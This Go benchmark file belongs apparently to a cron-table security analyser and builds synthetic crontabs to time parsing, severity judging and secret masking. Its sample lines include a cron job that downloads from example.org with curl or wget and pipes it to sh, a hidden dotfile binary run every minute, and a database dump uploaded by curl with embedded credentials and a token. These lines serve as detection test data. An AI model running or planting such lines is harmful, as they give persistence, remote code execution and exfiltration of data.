package cron

import (
	"fmt"
	"strings"
	"testing"
)

// benchTable makes a table of n lines as real ones are: mostly plain, some with
// wrappers, guards and redirections, a few bad.
func benchTable(n int) []byte {
	lines := []string{
		"*/5 * * * * /usr/local/bin/check-%d --all > /dev/null 2>&1",
		"25 6 * * * test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
		"0 3 * * 0 nice -n 19 ionice -c3 sudo -u backup /opt/backup/run-%d.sh --quiet",
		"@hourly cd /srv/app-%d && php artisan schedule:run >> /dev/null 2>&1",
		"*/15 * * * * flock -n /run/lock/%d -c \"TZ=UTC sanoid --take\"",
		"* * * * * /home/u/.hidden-%d/upd >/dev/null 2>&1",
		"10 4 * * * mysqldump -u root -pgeheim db%d | gzip > /backup/db.gz",
		"*/10 * * * * (curl -fsSL http://example.org/%d||wget -q -O- http://example.org/%[1]d)|sh",
	}
	var b strings.Builder
	for i := range n {
		l := lines[i%len(lines)]
		if strings.Contains(l, "%d") || strings.Contains(l, "%[1]d") {
			fmt.Fprintf(&b, l, i)
		} else {
			b.WriteString(l)
		}
		b.WriteByte('\n')
	}
	return []byte(b.String())
}

func BenchmarkTable(b *testing.B) {
	data := benchTable(10_000)
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	for b.Loop() {
		if n := len(ParseTable(data, User, Cronie, Options{}).Jobs()); n != 10_000 {
			b.Fatal(n)
		}
	}
}

func BenchmarkJudge(b *testing.B) {
	for _, n := range []int{10_000, 20_000, 40_000} {
		data := benchTable(n)
		b.Run(fmt.Sprint(n), func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				tab := ParseTable(data, User, Busybox, Options{User: "root"})
				worst := None
				for _, j := range tab.Jobs() {
					worst = max(worst, Severity(Signs(j, j.Resolve("/root", Busybox), SignContext{UID: -1})))
				}
				if worst != Critical {
					b.Fatal(worst)
				}
			}
		})
	}
}

func BenchmarkMask(b *testing.B) {
	const line = "10 4 * * * mysqldump -u root -pgeheim --host=db1 db | curl -u bob:geheim -T - https://x:y@example.org/up?token=abc"
	b.ReportAllocs()
	for b.Loop() {
		Mask(line)
	}
}
